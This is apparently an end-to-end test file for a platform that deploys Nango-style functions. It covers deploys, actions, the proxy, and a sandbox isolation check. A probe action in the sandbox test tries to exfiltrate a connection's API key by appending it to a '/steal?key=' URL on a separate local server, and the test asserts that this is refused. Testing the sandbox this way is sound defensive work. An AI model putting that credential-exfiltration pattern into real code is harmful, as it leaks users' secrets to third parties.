import { Nango } from '@nangohq/node';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { type CliResult, spoke } from '../cli/cli-harness.js';
import { type Served, serveFetch } from '../support/serve-fetch.js';
import { registerItemsApi, scaffoldItemsProject } from './items-project.js';
import { createPlatformEnvironment, type PlatformInit, platformCall } from './platform-api.js';

// The developer's path, end to end: `spoke init`, write functions, `spoke deploy` to a platform
// started by `npm run dev`, then call them with the official Nango Node client.
const host = inject('platformUrl');

interface SeenRequest {
    method: string;
    path: string;
    apiKey: string | null;
    body: string;
}

/** A third-party API on a local port: it insists on its API key and remembers every request. */
function fakeApi(seen: SeenRequest[]) {
    return serveFetch(async (request) => {
        const url = new URL(request.url);
        const entry = { method: request.method, path: url.pathname + url.search, apiKey: request.headers.get('x-api-key'), body: await request.text() };
        seen.push(entry);
        if (entry.apiKey !== 'e2e-api-key') return Response.json({ error: 'bad key' }, { status: 401 });
        if (url.pathname === '/items' && request.method === 'GET') {
            const page = Number(url.searchParams.get('page') ?? '1');
            return Response.json({ items: page <= 2 ? [{ id: `i${page}`, name: `item ${page}` }] : [], next: page < 2 ? page + 1 : null });
        }
        if (url.pathname === '/items' && request.method === 'POST') return Response.json({ id: 'new-1', ...(JSON.parse(entry.body) as object) }, { status: 201 });
        return Response.json({ echo: entry.path });
    });
}

const ITEMS_SYNC = `import { createSync } from 'nango';
import { z } from 'zod';

const Item = z.object({ id: z.string(), name: z.string() });

export default createSync({
    description: 'Items of the fake API',
    frequency: 'every hour',
    models: { Item },
    exec: async (nango) => {
        let page: number | null = 1;
        while (page !== null) {
            const res: { data: { items: { id: string; name: string }[]; next: number | null } } = await nango.get({ endpoint: '/items', params: { page } });
            await nango.batchSave(res.data.items, 'Item');
            page = res.data.next;
        }
    }
});
`;

const CREATE_ITEM = `import { createAction } from 'nango';
import { z } from 'zod';

export default createAction({
    description: 'Create an item',
    input: z.object({ name: z.string().min(1) }),
    output: z.object({ id: z.string(), name: z.string() }),
    exec: async (nango, input) => {
        const { data } = await nango.post({ endpoint: '/items', data: { name: input.name }, retries: 2 });
        await nango.log('created', { id: data.id });
        return { id: data.id, name: data.name };
    }
});
`;

const SANDBOX_PROBE = (elsewhere: string) => `import { createAction } from 'nango';
import { z } from 'zod';

export default createAction({
    description: 'Tries what a sandboxed function must not be able to do',
    input: z.object({ target: z.string() }),
    output: z.any(),
    exec: async (nango, input) => {
        const direct = await fetch(input.target).then((r) => 'reached: ' + r.status, (e: Error) => 'blocked: ' + e.message);
        const connection = await nango.getConnection();
        let exfiltration: string;
        try {
            await nango.uncontrolledFetch({ url: '${elsewhere}/steal?key=' + String(connection.credentials['apiKey']) });
            exfiltration = 'sent';
        } catch (error) {
            exfiltration = 'refused: ' + (error as Error).message;
        }
        return { direct, apiKey: connection.credentials['apiKey'], exfiltration };
    }
});
`;

let api: Served;
let elsewhere: Served;
const seen: SeenRequest[] = [];
const stolen: string[] = [];
let secretKey: string;
let nango: Nango;
let project: string;
let cleanup: () => Promise<void>;

const platform = (path: string, init: Partial<PlatformInit> = {}) => platformCall(path, { key: secretKey, ...init });

function expectOk(result: CliResult) {
    expect(result.code, `${result.stdout}\n${result.stderr}`).toBe(0);
}

beforeAll(async () => {
    api = await fakeApi(seen);
    elsewhere = await serveFetch((request) => {
        stolen.push(request.url);
        return new Response('thanks');
    });
    ({ secretKey } = await createPlatformEnvironment('functions'));
    nango = new Nango({ host, secretKey });
    await registerItemsApi({ key: secretKey, provider: 'fake-items', apiUrl: api.url, apiKey: 'e2e-api-key' });
    ({ project, cleanup } = await scaffoldItemsProject(secretKey, [
        ['syncs', 'items', ITEMS_SYNC],
        ['actions', 'create-item', CREATE_ITEM],
        ['actions', 'sandbox-probe', SANDBOX_PROBE(elsewhere.url)]
    ]));
}, 120_000);

afterAll(async () => {
    await Promise.all([api?.close(), elsewhere?.close(), cleanup?.()]);
});

describe('spoke deploy', () => {
    it('deploys the project, then finds nothing to deploy', async () => {
        const deployed = await spoke(['deploy', '--yes', '-m', 'e2e', project], project);
        expectOk(deployed);
        expect(deployed.stdout).toContain('Deployed version 1');
        const functions = (await platform('/integrations/items-api/functions')).data.map((f: { type: string; name: string }) => `${f.type}:${f.name}`);
        expect(functions.sort()).toEqual(['action:create-item', 'action:sandbox-probe', 'sync:items']);
        const again = await spoke(['deploy', '--yes', project], project);
        expectOk(again);
        expect(again.stdout).toContain('Nothing to deploy');
        const config = (await nango.getScriptsConfig()) as { providerConfigKey: string; actions: { name: string }[] }[];
        expect(config.find((c) => c.providerConfigKey === 'items-api')?.actions.map((a) => a.name).sort()).toEqual(['create-item', 'sandbox-probe']);
    }, 120_000);

    it('dry-runs the sync against the real connection, persisting nothing', async () => {
        const result = await spoke(['dryrun', 'items', 'acme', project], project);
        expectOk(result);
        expect(result.stdout).toContain('i1');
        expect(result.stdout).toContain('i2');
    }, 120_000);
});

describe('actions and the proxy through @nangohq/node', () => {
    it('triggerAction runs the deployed action with the API key injected', async () => {
        seen.length = 0;
        const output = await nango.triggerAction('items-api', 'acme', 'create-item', { name: 'Widget' });
        expect(output).toEqual({ id: 'new-1', name: 'Widget' });
        expect(seen).toEqual([{ method: 'POST', path: '/items', apiKey: 'e2e-api-key', body: '{"name":"Widget"}' }]);
    });

    it('refuses invalid input with a clear 400', async () => {
        const error = await nango.triggerAction('items-api', 'acme', 'create-item', { name: '' }).catch((e: { response: { status: number; data: unknown } }) => e.response);
        expect(error).toMatchObject({ status: 400, data: { error: { code: 'invalid_action_input' } } });
    });

    it('triggerActionAsync and getAsyncActionResult', async () => {
        const { id, statusUrl } = await nango.triggerActionAsync('items-api', 'acme', 'create-item', { name: 'Later' });
        expect(statusUrl).toBe(`/action/${id}`);
        const deadline = Date.now() + 20_000;
        let result: unknown;
        while (Date.now() < deadline) {
            try {
                result = await nango.getAsyncActionResult({ id });
                break;
            } catch (error) {
                // 404 while the action is queued or running.
                expect((error as { response?: { status?: number } }).response?.status).toBe(404);
                await new Promise((resolve) => setTimeout(resolve, 250));
            }
        }
        expect(result).toEqual({ id: 'new-1', name: 'Later' });
    }, 30_000);

    it('proxy, get and post reach the provider with auth injected', async () => {
        seen.length = 0;
        const got = await nango.get({ providerConfigKey: 'items-api', connectionId: 'acme', endpoint: '/items', params: { page: '2' } });
        expect(got.data).toEqual({ items: [{ id: 'i2', name: 'item 2' }], next: null });
        const posted = await nango.post({ providerConfigKey: 'items-api', connectionId: 'acme', endpoint: '/items', data: { name: 'Proxied' } });
        expect(posted.status).toBe(201);
        expect(posted.data).toEqual({ id: 'new-1', name: 'Proxied' });
        const proxied = await nango.proxy({ method: 'GET', providerConfigKey: 'items-api', connectionId: 'acme', endpoint: '/anything/else' });
        expect(proxied.data).toEqual({ echo: '/anything/else' });
        expect(seen.map((r) => [r.method, r.path, r.apiKey])).toEqual([
            ['GET', '/items?page=2', 'e2e-api-key'],
            ['POST', '/items', 'e2e-api-key'],
            ['GET', '/anything/else', 'e2e-api-key']
        ]);
    });
});

describe('the sandbox', () => {
    it('has no network of its own and never holds the credentials', async () => {
        seen.length = 0;
        const output = (await nango.triggerAction('items-api', 'acme', 'sandbox-probe', { target: `${api.url}/direct` })) as Record<string, string>;
        expect(output.direct).toMatch(/^blocked: /);
        expect(output.apiKey).toBe('spoke-credential-placeholder:apiKey');
        expect(output.exfiltration).toMatch(/^refused: .*credentials_egress_denied/);
        expect(JSON.stringify(output)).not.toContain('e2e-api-key');
        expect(seen).toEqual([]);
        expect(stolen).toEqual([]);
    });
});
